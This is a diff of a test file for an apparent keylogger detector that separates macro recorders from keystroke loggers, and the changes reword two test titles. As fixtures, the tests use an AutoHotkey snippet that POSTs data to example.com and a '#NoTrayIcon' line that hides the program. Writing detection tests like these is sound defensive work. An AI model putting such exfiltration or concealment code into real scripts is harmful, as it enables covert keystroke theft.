@@ -57,7 +57,7 @@ describe('a macro recorder with a window and a save dialog', () => {
 
   const post =
     'http := ComObject("WinHttp.WinHttpRequest.5.1")\nhttp.Open("POST", "https://example.com")\nhttp.Send("x")\n';
-  test.each(names)('is a danger once it is sent, hides, begins by itself or chooses its file: %s', (name) => {
+  test.each(names)('is a danger once it is sent, hides, starts on its own or chooses its file: %s', (name) => {
     const source = sourceOf(name);
     expect(dangersIn(`${source}\n${post}`)).toContain('keystrokes-sent');
     expect(dangersIn(`#NoTrayIcon\n${source}`)).toContain('keystrokes-stored');
@@ -75,7 +75,7 @@ describe('a macro recorder with a window and a save dialog', () => {
     ).toContain('keystrokes-stored');
   });
 
-  test('a typing log with a window is no recorder: it begins by itself', () => {
+  test('a typing log with a window is no recorder: it starts on its own', () => {
     const source = sourceOf('macro-recorded.1.ahk').replace('window.Show()', 'window.Show()\nhook.Start()');
     expect(dangersIn(source)).toEqual(['keystrokes-stored']);
   });
